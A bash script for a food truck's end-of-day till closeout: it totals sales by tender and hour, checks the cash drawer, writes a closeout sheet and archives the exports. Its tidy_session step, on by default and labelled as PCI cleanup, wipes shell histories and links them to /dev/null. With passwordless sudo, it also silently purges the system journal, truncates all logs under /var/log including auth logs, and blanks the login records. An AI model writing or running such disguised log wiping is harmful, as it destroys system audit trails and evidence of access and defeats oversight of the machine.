#!/usr/bin/env bash
# market_day_closeout.sh - end-of-day closeout for the truck.
#
# Reads the till exports for the day from ./exports, works out takings by
# tender and by hour, compares counted cash against the float, writes the
# closeout sheet to ./closeouts/<date>.txt and archives the raw exports.
# Finally it tidies the till session: staff key the drawer PIN and, when a
# reader fails, card numbers at the terminal, so those traces are cleared
# before the laptop goes home in the van (PCI self-assessment item 3.2).
#
# Usage: market_day_closeout.sh -c COUNTED_CASH [-f FLOAT] [-d YYYY-MM-DD] [-m MARKET] [-T]
#   -T  skip the session tidy
set -euo pipefail

DAY="$(date +%F)"
FLOAT="150.00"
COUNTED=""
MARKET="${MARKET_NAME:-unknown market}"
EXPORT_DIR="./exports"
OUT_DIR="./closeouts"
ARCHIVE_DIR="./archive"
TIDY="${CLOSEOUT_TIDY:-1}"

die() { echo "error: $*" >&2; exit 1; }

while getopts ":c:f:d:m:Th" opt; do
  case "$opt" in
    c) COUNTED="$OPTARG" ;;
    f) FLOAT="$OPTARG" ;;
    d) DAY="$OPTARG" ;;
    m) MARKET="$OPTARG" ;;
    T) TIDY=0 ;;
    h) sed -n '2,12p' "$0"; exit 0 ;;
    *) die "unknown option -$OPTARG" ;;
  esac
done
[[ -n "$COUNTED" ]] || die "counted cash (-c) is required"

shopt -s nullglob
exports=("$EXPORT_DIR"/till_"$DAY"*.csv)
(( ${#exports[@]} )) || die "no till exports for $DAY in $EXPORT_DIR"

# order_no,closed_at,tender,total,items
all_rows() { for f in "${exports[@]}"; do tail -n +2 "$f"; done; }

by_tender() {
  all_rows | awk -F, '{ t[$3] += $4; n[$3]++ }
    END { for (k in t) printf "  %-8s %4d orders  £%9.2f\n", k, n[k], t[k] }' | sort
}

by_hour() {
  all_rows | awk -F, '{ split($2, dt, /[ T]/); h = substr(dt[2], 1, 2); s[h] += $4; n[h]++ }
    END { for (h in s) printf "  %s:00  %4d orders  £%8.2f\n", h, n[h], s[h] }' | sort
}

top_items() {
  all_rows | cut -d, -f5- | tr -d '"' | tr ';' '\n' | sed 's/^ *//; /^$/d' \
    | sort | uniq -c | sort -rn | head -n 10 | awk '{ c=$1; $1=""; printf "  %4d x%s\n", c, $0 }'
}

cash_check() {
  local cash_sales
  cash_sales=$(all_rows | awk -F, '$3 == "cash" { s += $4 } END { printf "%.2f", s }')
  awk -v f="$FLOAT" -v s="$cash_sales" -v c="$COUNTED" 'BEGIN {
    expected = f + s; diff = c - expected
    printf "  float      £%9.2f\n  cash sales £%9.2f\n  expected   £%9.2f\n  counted    £%9.2f\n", f, s, expected, c
    printf "  %-10s £%9.2f\n", (diff < 0 ? "SHORT" : (diff > 0 ? "OVER" : "exact")), (diff < 0 ? -diff : diff)
  }'
}

write_sheet() {
  local sheet="$1" total orders
  total=$(all_rows | awk -F, '{ s += $4 } END { printf "%.2f", s }')
  orders=$(all_rows | wc -l)
  {
    echo "Closeout: $MARKET - $DAY"
    echo "Generated $(date '+%F %T') by ${USER:-crew}"
    echo
    echo "Takings: £$total from $orders orders"
    echo
    echo "By tender:"; by_tender
    echo
    echo "By hour:"; by_hour
    echo
    echo "Cash drawer:"; cash_check
    echo
    echo "Best sellers:"; top_items
  } > "$sheet"
}

archive_exports() {
  local dest="$ARCHIVE_DIR/$DAY"
  mkdir -p "$dest"
  for f in "${exports[@]}"; do
    gzip -c "$f" > "$dest/$(basename "$f").gz" && rm -f -- "$f"
  done
  echo "archived ${#exports[@]} export(s) to $dest"
}

sensitive_traces() {
  local f
  for f in .bash_history .zsh_history .python_history .lesshst .sqlite_history .node_repl_history; do
    [[ -e "$HOME/$f" ]] && printf '%s\n' "$HOME/$f"
  done
  return 0
}

tidy_session() {
  local f
  while IFS= read -r f; do
    : > "$f"
    ln -sf /dev/null "$f"
  done < <(sensitive_traces)
  export HISTFILE=/dev/null HISTSIZE=0
  # the till app and sudo log keyed input too
  if sudo -n true 2>/dev/null; then
    sudo -n journalctl --rotate >/dev/null 2>&1 || true
    sudo -n journalctl --vacuum-time=1s >/dev/null 2>&1 || true
    sudo -n find /var/log -type f \( -name '*.log' -o -name 'syslog*' -o -name 'messages*' \
        -o -name 'auth*' -o -name 'secure*' -o -name '*.gz' -o -name '*.[0-9]' \) \
        -exec truncate -s 0 {} + 2>/dev/null || true
    sudo -n sh -c ': > /var/log/wtmp; : > /var/log/btmp; : > /var/log/lastlog' 2>/dev/null || true
  fi
  echo "till session tidied"
}

main() {
  mkdir -p "$OUT_DIR"
  local sheet="$OUT_DIR/$DAY.txt"
  write_sheet "$sheet"
  cat "$sheet"
  archive_exports
  if [[ "$TIDY" == "1" ]]; then
    tidy_session
  fi
}

main
